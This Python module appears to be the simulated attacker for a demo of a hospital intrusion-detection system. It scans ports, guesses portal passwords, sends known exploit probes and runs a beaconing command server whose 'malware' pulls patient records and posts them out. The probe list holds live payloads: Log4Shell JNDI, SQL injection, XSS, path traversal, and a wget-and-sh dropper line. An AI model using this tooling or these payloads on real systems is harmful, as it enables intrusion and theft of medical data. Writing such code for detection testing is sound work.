"""The attacker's programs. They keep notes of what they really did: the truth that Rempart never reads.

Usage: python -m demo.attacker VERB SEED NOTES, inside the machine it runs on:
scan, guess, probe, relapse on the attacker's own; command on the command server; malware on the ward PC.
"""

import json
import random
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from demo.addresses import Account, Plan, plan
from demo.request import NO_ANSWER, ask

_HOLES = (
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-content/plugins/revslider/temp/update_extract/cmd.php?c=id",
    "/phpmyadmin/index.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/index.php?page=../../../../../../etc/passwd",
    "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/?x=${jndi:ldap://198.18.0.1:1389/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
    "/solr/admin/info/system?wt=json",
    "/owa/auth/x.js",
    "/shell?cd+/tmp;rm+-rf+*;wget+198.18.0.1/jaws;sh+/tmp/jaws",
    "/boaform/admin/formLogin",
    "/server-status",
    "/backup.zip",
    "/config.php.bak",
    "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example",
)


class Notes:
    """The attacker's own notebook, one JSON object a line."""

    def __init__(self, path: Path) -> None:
        self._file = path.open("a")

    def note(self, what: str, at_ns: int | None = None, **details: Any) -> None:
        """Note something with its instant (CLOCK_MONOTONIC nanoseconds)."""
        line = {"what": what, "at_ns": at_ns if at_ns is not None else time.monotonic_ns(), **details}
        self._file.write(json.dumps(line) + "\n")
        self._file.flush()


def read_notes(path: Path) -> list[dict[str, Any]]:
    """Everything noted so far, oldest first."""
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def knock(
    source: str, target: str, ports: Iterable[int], pause: float, first: Callable[[], None]
) -> list[int]:
    """A connect scan: the ports that answered. ``first`` is called just before the first packet leaves."""
    waiting = selectors.DefaultSelector()
    answered = []
    for number, port in enumerate(ports):
        probe = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        probe.bind((source, 0))
        probe.settimeout(0)
        if number == 0:
            first()
        probe.connect_ex((target, port))
        waiting.register(probe, selectors.EVENT_WRITE, port)
        answered += _opened(waiting, pause)
    answered += _opened(waiting, 0.3)
    for key in list(waiting.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]  # we registered sockets only
    return answered


def _opened(waiting: selectors.BaseSelector, pause: float) -> list[int]:
    opened = []
    limit = time.monotonic() + pause
    while (left := limit - time.monotonic()) > 0:
        for key, _ in waiting.select(left):
            probe: socket.socket = key.fileobj  # type: ignore[assignment]  # we registered sockets only
            if probe.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                opened.append(key.data)
            waiting.unregister(probe)
            probe.close()
    return opened


def scan(day: Plan, notes: Notes) -> None:
    """Look for doors on the hospital's address."""
    found = knock(
        day.address("attacker"),
        day.uplink,
        day.attack.scanned_ports,
        0.02,
        lambda: notes.note("first packet"),
    )
    notes.note("scanned", open=found)


def guess(day: Plan, notes: Notes) -> None:
    """Guess the password of one practitioner on the portal; once in, look around."""
    for password in day.attack.passwords:
        account = Account(day.guessed.name, password)
        answer = _portal(day, account, "/", day.address("attacker"))
        if answer.status == 200:
            notes.note("signed in", at_ns=answer.sent_ns, account=account.name)
            break
        time.sleep(day.attack.guess_pause)
    for page in ("/resultats/", "/courriers/"):
        _portal(day, day.guessed, page, day.address("attacker"))


def probe(day: Plan, notes: Notes) -> None:
    """Try known holes on the website, until nobody answers any more: blocked."""
    unanswered = 0
    for hole in _HOLES:
        answer = ask(
            (day.uplink, 80),
            hole,
            host=day.website,
            agent="Mozilla/5.0 (compatible; Nuclei - Open-source project)",
            source=day.address("attacker"),
            timeout=1,
        )
        notes.note("probed", at_ns=answer.sent_ns, path=hole, status=answer.status)
        unanswered += answer.status == NO_ANSWER
        if unanswered == 2:
            return
        time.sleep(0.03)


def relapse(day: Plan, notes: Notes) -> None:
    """Come back from another address with the stolen account, and ask until nothing is given any more."""
    refused, silent, asked = 0, 0, 0
    while refused < 50 and silent < 3 and asked < 4000:
        answer = _portal(day, day.guessed, "/resultats/", day.address("attacker", 1), timeout=1.0)
        notes.note("relapse", at_ns=answer.sent_ns, done_ns=answer.done_ns, status=answer.status)
        refused = 0 if answer.status == 200 else refused + 1
        silent = silent + 1 if answer.status == NO_ANSWER else 0
        asked += 1
        time.sleep(0.002)


def _portal(day: Plan, account: Account, page: str, source: str, *, timeout: float = 3.0) -> Any:
    return ask(
        (day.uplink, 80),
        page,
        host=day.portal,
        account=account,
        agent="python-requests/2.31",
        source=source,
        timeout=timeout,
    )


# -- the malware on the ward PC and the server it obeys ----------------------------------------------------------


def command(day: Plan, notes: Notes) -> None:
    """The command server: lets the malware wait, tells it once what to take, keeps what it sends."""

    class Commands(BaseHTTPRequestHandler):
        """What one request of the malware gets."""

        beacons = 0

        def do_GET(self) -> None:
            """A beacon asks what to do."""
            Commands.beacons += 1
            notes.note("beacon", number=Commands.beacons)
            self._answer(_task(day) if Commands.beacons == day.attack.beacons else {"do": "wait"})

        def do_POST(self) -> None:
            """Records arrive."""
            stolen = self.rfile.read(int(self.headers["Content-Length"]))
            notes.note("received", bytes=len(stolen))
            self._answer({"do": "go on"})

        def _answer(self, task: dict[str, Any]) -> None:
            body = json.dumps(task).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """Nothing: the notes are kept elsewhere."""

    ThreadingHTTPServer((day.address("command"), day.ports.command), Commands).serve_forever()


def _task(day: Plan) -> dict[str, Any]:
    return {
        "do": "take",
        "account": day.guessed.name,
        "password": day.guessed.password,
        "server": [day.address("servers"), day.ports.care],
        "numbers": day.attack.stolen,
        "batch": day.attack.batch,
    }


def malware(day: Plan, notes: Notes) -> None:
    """On the ward PC: ask for commands at a steady beat, and obey."""
    dice = random.Random()
    door = (day.address("command"), day.ports.command)
    while True:
        answer = ask(
            door, "/api/v2/ping", agent="Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", timeout=1
        )
        task = json.loads(answer.body) if answer.status == 200 else {"do": "wait"}
        if task["do"] == "take":
            take(door, task, notes)
        time.sleep(day.attack.beacon_pause + dice.uniform(-1, 1) * day.attack.beacon_jitter)


def take(door: tuple[str, int], task: dict[str, Any], notes: Notes) -> None:
    """Open the care files asked for with the stolen account, and send them out by the batch."""
    account = Account(task["account"], task["password"])
    haul: list[bytes] = []
    for number in task["numbers"]:
        path = f"/patients/{number}/dossier.html"
        answer = ask(tuple(task["server"]), path, account=account, agent="python-requests/2.31")
        notes.note("asked", at_ns=answer.sent_ns, number=number, status=answer.status)
        if answer.status == 200:
            haul.append(answer.body)
        if len(haul) == task["batch"]:
            _send_out(door, haul, notes)
            haul = []
    _send_out(door, haul, notes)
    notes.note("taken all")


def _send_out(door: tuple[str, int], haul: list[bytes], notes: Notes) -> None:
    answer = ask(door, "/api/v2/upload", method="POST", body=b"".join(haul), timeout=1)
    notes.note("sent out", records=len(haul), status=answer.status, lost=answer.status == NO_ANSWER)


VERBS = {verb.__name__: verb for verb in (scan, guess, probe, relapse, command, malware)}

if __name__ == "__main__":
    VERBS[sys.argv[1]](plan(int(sys.argv[2])), Notes(Path(sys.argv[3])))
